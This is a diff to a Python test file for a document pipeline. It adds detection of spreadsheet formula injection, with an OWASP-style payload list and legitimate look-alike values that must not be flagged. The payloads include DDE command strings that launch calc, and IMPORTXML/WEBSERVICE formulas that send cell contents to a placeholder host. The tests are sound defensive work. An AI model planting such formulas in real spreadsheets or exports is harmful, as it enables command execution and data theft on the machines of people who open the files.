@@ -16,7 +16,8 @@ from openpyxl import Workbook
 from pipelines.documents.archive import write_zip, zip_chunks
 from pipelines.documents.errors import MissingColumns
 from pipelines.documents.tabular import (
-    FilenameAllocator, ReportWriter, check_columns, defang, iter_rows, sanitize_stem, validate_row,
+    FilenameAllocator, ReportWriter, check_columns, defang, is_formula, iter_rows, sanitize_stem, unescape_literal,
+    validate_row,
 )
 
 CSV_DIR = PUBLIC / "csv"
@@ -67,7 +68,7 @@ def test_missing_columns_are_named():
 
 
 def test_row_validation():
-    assert validate_row({"name": "=HYPERLINK(\"x\")"}, ["name"]) is None  # formulas are data
+    assert validate_row({"name": "-Smith", "phone": "+44 20 7946 0958"}, ["name"]) is None
     assert validate_row({"name": " "}, ["name"]).code == "missing_values"
     assert validate_row({"name": "x" * (1024 * 1024 + 1)}, ["name"]).code == "cell_too_large"
     assert validate_row({"name": "bad \ufffd byte"}, ["name"]).code == "bad_encoding"
@@ -80,7 +81,40 @@ def test_bad_rows_fail_alone_in_a_mixed_csv(tmp_path):
                      + b'"' + b"y" * (2 * 1024 * 1024) + b'",big@example.com\r\n' + b"=cmd|' /C calc'!A0,x@example.com\r\n")
     _, rows = iter_rows(path)
     verdicts = [validate_row(r, ["name"]) for r in rows]
-    assert [v.code if v else "ok" for v in verdicts] == ["ok", "missing_values", "bad_encoding", "cell_too_large", "ok"]
+    assert [v.code if v else "ok" for v in verdicts] == [
+        "ok", "missing_values", "bad_encoding", "cell_too_large", "formula_injection"]
+
+
+OWASP_CSV_INJECTION = [
+    "=1+1", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "  =1+1", "\n-1+1",
+    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")', "-A1", "+$B$2", "@C3", "+A1:B9", "-Sheet1!A1",
+    "+_xlfn.WEBSERVICE(\"http://x\")", "-1*2", "+2^8", "-x=1", "@HYPERLINK(\"http://x\")",
+]
+LEGITIMATE = [
+    "-Smith", "+44 20 7946 0958", "-12.5", "@handle", "@jane_doe", "+1 (555) 123-4567", "-1,234.50", "-3e+5",
+    "-20%", "+33 6 12 34 56 78", "2024-01-05", "a=b", "Smith-Jones", "", " ", "-", "@", "--", "-Wow!",
+    "-Smith (née Jones)", "+49 30/1234567", "@bob.smith", "-N/A", "Total = 12", "'=1+1", "-Smith & Sons",
+]
+
+
+@pytest.mark.parametrize("value", OWASP_CSV_INJECTION)
+def test_formula_payloads_are_formulas(value):
+    assert is_formula(value)
+    problem = validate_row({"name": "Ada", "note": value}, ["name"])
+    assert problem.code == "formula_injection"
+    assert "'note'" in problem.message and "apostrophe" in problem.message
+
+
+@pytest.mark.parametrize("value", LEGITIMATE)
+def test_legitimate_values_are_not_formulas(value):
+    assert not is_formula(value)
+    assert validate_row({"name": "Ada", "note": value}, ["name"]) is None
+
+
+def test_apostrophe_escapes_a_literal_formula():
+    assert unescape_literal("'=1+1") == "=1+1" and unescape_literal("'-2+3") == "-2+3"
+    assert unescape_literal("'tis") == "'tis" and unescape_literal("'-Smith") == "'-Smith"
 
 
 def test_filenames_sanitized_and_unique():
